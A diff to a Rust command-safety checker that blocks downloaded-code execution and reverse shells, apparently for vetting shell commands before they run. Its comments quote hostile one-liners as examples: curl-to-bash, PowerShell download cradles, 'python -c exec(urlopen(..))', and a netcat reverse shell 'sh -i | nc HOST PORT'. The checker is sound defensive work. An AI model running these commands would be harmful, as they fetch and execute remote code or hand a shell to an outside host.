@@ -3,8 +3,10 @@
 //! (`bash <(curl ..)`), `eval`/`sh -c` of a download (`eval "$(curl ..)"`), and command words
 //! that are not literal (`$(echo rm)`, `` `x` ``, `$IFS` tricks; a plain `$CMD` warns).
 //! PowerShell's download cradles (`iwr URL | iex`, `powershell -c "irm URL | iex"`) are the
-//! same thing. Warned: a file downloaded and run in the same line without being read
-//! (`download_execute`), and packages run straight from a URL (`npx https://..`,
+//! same thing, as are inline programs that exec/eval what they fetch (`python -c
+//! "exec(urlopen(..).read())"`, `node -e "fetch(..).then(eval)"`), and a shell piped into
+//! `nc` (a reverse shell). Warned: a file downloaded and run in the same line without being
+//! read (`download_execute`), and packages run straight from a URL (`npx https://..`,
 //! `url_package`).
 
 use super::{block, warn, FETCHERS};
@@ -101,6 +103,57 @@ pub fn check(pipeline: &Pipeline, index: usize, out: &mut Vec<Violation>) {
     let r = Category::RemoteExecution;
     dynamic(cmd, out);
     let name = cmd.name();
+    // `python -c "exec(urlopen(URL).read())"`, `node -e "fetch(URL).then(r=>r.text()).then(eval)"`:
+    // an inline program that runs code it downloads.
+    let inline = name.starts_with("python") || matches!(name, "perl" | "ruby" | "node" | "php" | "deno" | "bun");
+    if inline
+        && cmd.argv.iter().skip(1).any(|code| {
+            let fetches = [
+                "urlopen",
+                "requests.get",
+                "fetch(",
+                "http.get",
+                "https.get",
+                "Net::HTTP",
+                "open-uri",
+                "LWP::",
+                "file_get_contents(\"http",
+                "URI.open",
+                "urllib",
+            ]
+            .iter()
+            .any(|f| code.contains(f));
+            let runs = ["exec(", "eval(", "eval)", "eval ", "instance_eval", "Function("]
+                .iter()
+                .any(|e| code.contains(e));
+            fetches && runs
+        })
+    {
+        out.push(block(
+            r,
+            EVAL_DOWNLOAD,
+            Risk::Critical,
+            cmd,
+            format!("{name} runs code it downloads"),
+        ));
+        return;
+    }
+    // `cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`: a shell whose input and output go
+    // through a network connection.
+    if is_shell(name)
+        && pipeline[index + 1..]
+            .iter()
+            .any(|c| matches!(c.name(), "nc" | "ncat" | "netcat" | "telnet" | "socat" | "openssl"))
+    {
+        out.push(block(
+            r,
+            PIPE_TO_SHELL,
+            Risk::Critical,
+            cmd,
+            "a shell's output is piped to a network connection (a reverse shell)",
+        ));
+        return;
+    }
     powershell(cmd, out);
     url_package(cmd, out);
     if interpreter(name) && reads_stdin(cmd) {
